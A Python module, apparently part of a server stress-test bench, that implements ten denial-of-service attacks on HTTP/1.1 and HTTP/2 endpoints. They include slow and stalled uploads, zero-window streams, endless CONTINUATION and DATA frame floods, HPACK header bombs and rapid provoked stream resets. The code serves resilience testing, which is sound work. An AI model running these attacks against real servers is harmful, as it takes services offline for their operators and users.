"""Attacks by requests that begin and do not go on, or that nobody sends but an attacker."""

import time
from multiprocessing.synchronize import Event

from bench.client import HOST
from bench.siege import frames
from bench.siege.wire import Target, Wire, request

# Frames that are sent in one piece.
FLOOD = 500
# A field of 3,900 bytes that goes into the table of a connection, and a name for it.
LARGE_FIELD = b"\x40\x01x\x7f" + bytes((3773 % 128 + 128, 3773 // 128)) + b"a" * 3900
SAME_FIELD = b"\xbe"


def unfollowed_continues(target: Target, stop: Event) -> str:
    """1,010 uploads that wait to be asked for their body, and do not send it then."""
    wire = Wire()
    for n in range(1010):
        fields = ("Content-Length: 100000", "Expect: 100-continue")
        wire.add(target.port, request("POST", f"/{'ug'[n % 2]}/upload", *fields))
    while not stop.wait(1):
        wire.read(4096)
    return str(wire)


def stalled_streams(target: Target, stop: Event) -> str:
    """20 HTTP/2 connections with 100 uploads each, of which a byte has come."""
    wire = Wire()
    for _ in range(20):
        begin = frames.PREFACE + frames.settings()
        for n in range(100):
            begin += frames.post(2 * n + 1, HOST, f"/{'ug'[n % 2]}/upload", {"content-length": "1000"})
            begin += frames.frame(frames.DATA, 0, 2 * n + 1, b".")
        wire.add(target.http2_port, begin)
    while not stop.wait(1):
        wire.read(65536)
    return str(wire)


def endless_gets(target: Target, stop: Event) -> str:
    """20 HTTP/2 connections with 100 GETs each whose streams do not end."""
    wire = Wire()
    for _ in range(20):
        begin = frames.PREFACE + frames.settings()
        for n in range(100):
            begin += frames.get(2 * n + 1, HOST, f"/{'ugac'[n % 4]}/page", {}, ends=False)
        wire.add(target.http2_port, begin)
    while not stop.wait(1):
        wire.read(65536)
    return str(wire)


def unread_pipelines(target: Target, stop: Event) -> str:
    """20 connections that ask for a page 200 times in one piece, again and again, and read nothing."""
    wire, piece = Wire(), request("GET", "/u/page") * 200
    for _ in range(20):
        wire.add(target.port, request("GET", "/u/page"), receive_buffer=4096)
    while not stop.wait(0.01):
        wire.send(piece)
    return str(wire)


def refused_upgrades(target: Target, stop: Event) -> str:
    """150 WebSockets where there are none, which go on sending and read nothing."""
    wire, upgrade = Wire(), ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13")
    upgrade += ("Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",)
    for n in range(150):
        begin = request("GET", f"/{'ug'[n % 2]}/download/1", *upgrade)
        wire.add(target.port, begin, receive_buffer=4096)
    while not stop.wait(0.5):
        wire.send(bytes(1000))
    return str(wire)


def closed_windows_of_many_files(target: Target, stop: Event) -> str:
    """20 HTTP/2 connections with 100 streams each and a window of 0 that ask for 50 files."""
    wire = Wire()
    for _ in range(20):
        begin = frames.PREFACE + frames.settings(INITIAL_WINDOW_SIZE=0)
        for n in range(100):
            begin += frames.get(2 * n + 1, HOST, f"/files/{n % 50}.bin", {})
        wire.add(target.http2_port, begin)
    while not stop.wait(1):
        wire.read(65536)
    return str(wire)


def endless_continuations(target: Target, stop: Event) -> str:
    """Four heads over HTTP/2 that go on for ever, in empty frames."""
    begin = frames.get(1, HOST, "/u/page", {})
    begin = begin[:4] + bytes((1,)) + begin[5:]
    return _flood(target, stop, begin, frames.frame(frames.CONTINUATION, 0, 1))


def endless_empty_data(target: Target, stop: Event) -> str:
    """Four uploads over HTTP/2 in empty frames."""
    return _flood(target, stop, frames.post(1, HOST, "/u/upload", {}), frames.frame(frames.DATA, 0, 1))


def header_bombs(target: Target, stop: Event) -> str:
    """Heads over HTTP/2 that name a long field 10,000 times."""

    def bombs(stream: int) -> bytes:
        block = frames.get(stream, HOST, "/u/page", {})[9:] + LARGE_FIELD + SAME_FIELD * 10_000
        return frames.frame(frames.HEADERS, frames.END_STREAM_AND_HEADERS, stream, block)

    return _requests(target, stop, bombs)


def provoked_resets(target: Target, stop: Event) -> str:
    """Requests over HTTP/2 whose streams break the rules at once, so that the server resets them."""
    wrong = bytes(4)
    return _requests(
        target,
        stop,
        lambda stream: frames.get(stream, HOST, "/u/page", {}) + frames.frame(frames.WINDOW_UPDATE, 0, stream, wrong),
    )


def _requests(target: Target, stop: Event, one) -> str:
    wire, sent, stream = Wire(), 0, 1
    for _ in range(4):
        wire.add(target.http2_port, frames.PREFACE + frames.settings())
    while not stop.is_set() and wire.open:
        sent += wire.send_whole(one(stream))
        stream += 2
        wire.read(65536)
        time.sleep(0.002)
    stop.wait()
    return f"{wire}; {sent} requests begun"


def _flood(target: Target, stop: Event, begin: bytes, one: bytes) -> str:
    wire, sent = Wire(), 0
    for _ in range(4):
        wire.add(target.http2_port, frames.PREFACE + frames.settings() + begin)
    while not stop.is_set() and wire.open:
        sent += wire.send_whole(one * FLOOD) * FLOOD
        wire.read(65536)
    stop.wait()
    return f"{wire}; {sent} frames sent"


ODDITIES = (
    unfollowed_continues,
    stalled_streams,
    endless_gets,
    unread_pipelines,
    refused_upgrades,
    closed_windows_of_many_files,
    endless_continuations,
    endless_empty_data,
    header_bombs,
    provoked_resets,
)
